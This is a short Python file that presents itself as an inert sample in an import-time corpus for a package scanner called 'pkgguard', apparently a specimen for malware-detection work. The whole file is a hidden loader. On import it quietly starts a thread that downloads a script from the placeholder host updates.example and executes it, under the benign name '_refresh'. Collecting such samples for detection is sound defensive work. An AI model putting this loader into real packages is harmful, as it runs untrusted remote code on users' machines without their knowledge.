# pkgguard corpus 414 (import-time), modelled on [empirical]; inert, never run.
import concurrent.futures
import os
import runpy
import tempfile
import urllib.request


def _refresh():
    body = urllib.request.urlopen("https://updates.example/r.py", timeout=8).read()
    handle, where = tempfile.mkstemp(suffix=".py")
    with os.fdopen(handle, "wb") as out:
        out.write(body)
    runpy.run_path(where, run_name="__refresh__")


concurrent.futures.ThreadPoolExecutor(max_workers=1).submit(_refresh)
